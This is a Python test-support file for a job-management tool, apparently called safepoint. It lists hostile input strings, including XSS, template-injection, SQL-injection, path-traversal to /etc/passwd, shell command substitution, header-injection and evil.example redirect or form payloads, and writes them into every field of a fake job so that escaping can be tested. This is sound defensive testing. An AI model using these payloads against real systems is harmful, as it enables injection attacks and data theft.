"""Texts that try to become elements, scripts, other lines or letters, and a job that has them in every field."""

import json
from html.parser import HTMLParser
from pathlib import Path

from safepoint.foundation import clock
from safepoint.jobs.local.history import History
from safepoint.jobs.local.paths import job_folder
from safepoint.jobs.model.states import JobState
from safepoint.progress.metric_history import METRICS_NAME, MetricPoint
from safepoint.progress.record import PROGRESS_NAME, Progress, State
from tests.support.checkpoints import commit, prepared
from tests.support.job_values import job_spec

HOSTILE = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{7*7}}",
    "{% include '/etc/passwd' %}",
    "{{ config }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=form_token>",
    "<a href=javascript:alert(1)>x</a>",
    "<div hx-get=/links hx-trigger=load>",
    "<div data-hx-post=/jobs/local/tiny/delete hx-trigger=load>",
    "<textarea>",
    "<plaintext>",
    "<!--",
    "-->",
    "<![CDATA[",
    "]]>",
    "&lt;script&gt;",
    "&#60;script&#62;",
    "\x1b]0;title\x07",
    "\x1b[2J\x1b[H",
    "\x00null",
    "\u202egnp.exe",
    "\u2066\u2069",
    "\u200b\u200c\u200d",
    "\ufeffbom",
    "\ud83d".encode("utf-8", "replace").decode(),
    "line\r\nSet-Cookie: a=b",
    "tab\tnew\nline",
    "../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "%00%0d%0a",
    "'; DROP TABLE job; --",
    "$(touch /tmp/x)",
    "`touch /tmp/x`",
    "https://user:secret@evil.example/?token=abc",
    "A" * 5000,
    "\u0301" * 300,
)


class Tags(HTMLParser):
    """The elements and attributes of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.found: set[tuple[str, tuple[str, ...]]] = set()
        self.links: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.add((tag, tuple(sorted(name for name, _ in attrs))))
        self.links += [text or "" for name, text in attrs if name in {"href", "src", "action", "hx-get"}]

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def write_hostile(home: Path, text: str) -> None:
    """A job whose every text is hostile: command, message, metrics, events, output, manifest."""
    output = home / "out" / "tiny"
    plain = text.replace("\0", "")
    with History() as history:
        history.add(
            job_spec("tiny", program=("train.py", plain), working_dir="/", output_dir=str(output)), actor=text
        )
        history.begin_attempt("tiny", 1, 1)
        history.end_attempt("tiny", 1, outcome=text, exit_code=1)
        history.become("tiny", JobState.FAILED, actor=text, cause=text, message=text, attempt=1, exit_code=1)
    folder = job_folder("tiny")
    (folder / "logs").mkdir(parents=True)
    (folder / "logs" / "rank-0.log").write_text(f"{text}\n", errors="replace")
    progress = Progress(
        time=clock.utc_now(), state=State.FAILED, step=3, loss=1.0, train_metrics={text: 1.0}, message=text,
        output_dir=text, run_id=text, safe_step=2, safe_time=text, started=text,
    )  # fmt: skip
    (folder / PROGRESS_NAME).write_bytes(progress.to_bytes())
    points = [
        MetricPoint(time=text, attempt=1, step=step, values={text: float(step), "loss": 1.0}) for step in (1, 2)
    ]
    (folder / METRICS_NAME).write_bytes(b"".join(point.to_line() for point in points))
    ranks = [{"rank": 0, "host": text, "pid": text}, {"rank": text}, text]
    event = {"time": text, "event": text or "e", "actor": text, "cause": text, "path": text, "step": text}
    started = {"time": clock.utc_now(), "event": "attempt_started", "actor": text, "ranks": ranks}
    (folder / "events.jsonl").write_text(f"{json.dumps(event)}\n{json.dumps(started)}\n")
    prepared(output)
    commit(prepared(output), 2)
    (output / "checkpoint-2" / "model.safetensors").unlink()
    manifest = output / "checkpoint-2" / "safepoint-manifest.json"
    manifest.write_text(manifest.read_text().replace('"ddp"', json.dumps(text)))
